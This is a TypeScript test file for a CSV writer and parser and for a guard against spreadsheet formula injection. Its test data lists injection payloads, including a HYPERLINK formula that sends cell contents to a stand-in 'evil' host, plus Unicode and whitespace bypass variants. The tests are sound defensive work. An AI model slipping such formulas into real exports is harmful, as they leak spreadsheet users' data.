import { describe, expect, it } from 'vitest';
import { csvText, parseCsv } from '../../../src/core/text/csv.ts';
import { guarded, unguarded } from '../../../src/core/text/formula-guard.ts';
import { createRandom } from './random-text.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '+1+1',
  '-2',
  '@SUM(1)',
  '\tcmd',
  '\rcmd',
  '\ncmd',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '−1',
  '  =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  'a;=1',
  'a\t=1',
  'a"=1',
  "'=1",
];

describe('a guarded text', () => {
  it.each(FORMULAS)(
    'of the formula %j begins no cell with one, whatever the separator, and is read back',
    (formula) => {
      const text = guarded(formula);
      for (const part of text.split(/[,;|"\t\r\n]/)) {
        expect(part.normalize('NFKC')).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@−]/u);
      }
      expect(text).toMatch(/^(?![\t\r\n])/);
      expect(unguarded(text)).toBe(formula);
    },
  );

  it.each(['sky', "people's car", 'a-b', 'a = b', 'a+b', 'me@home', '', "'", "'quoted'", '5', 'a "sign", red'])(
    'is %j itself where nothing in it is a formula',
    (text) => expect(guarded(text)).toBe(text),
  );

  it('is read back whatever it was', () => {
    const random = createRandom(1);
    for (let i = 0; i < 5000; i += 1) {
      const text = random(12);
      expect(unguarded(guarded(text)), JSON.stringify(text)).toBe(text);
      expect(unguarded(guarded(guarded(text))), JSON.stringify(text)).toBe(guarded(text));
    }
  });
});

describe('a CSV', () => {
  it('keeps separators, quotes and line ends of any locale inside their cell', () => {
    expect(
      csvText([
        ['a,b', 'a;b', 'a"b', 'a\nb', ' a'],
        ['', 'b', 1, -2.5],
      ]),
    ).toBe('"a,b","a;b","a""b","a\nb"," a"\n"",b,1,-2.5\n');
  });

  it('leaves numbers alone, below zero too', () => expect(csvText([[-0.5, '-0.5']])).toBe("-0.5,'-0.5\n"));

  it('is read back, whatever its names are', () => {
    const random = createRandom(2);
    for (let i = 0; i < 1000; i += 1) {
      const rows = [Array.from({ length: 5 }, () => random(6)), Array.from({ length: 5 }, () => random(6))];
      expect(parseCsv(csvText(rows))).toEqual(rows);
    }
  });

  it('is read with other programs’ line ends, with a byte order mark, and without a last line end', () => {
    expect(parseCsv('\ufeffa,"b\r\nc"\r\n1,')).toEqual([
      ['a', 'b\r\nc'],
      ['1', ''],
    ]);
    expect(parseCsv('')).toEqual([]);
    expect(() => parseCsv('a,b\n"c"d\n')).toThrow('Line 2');
  });
});
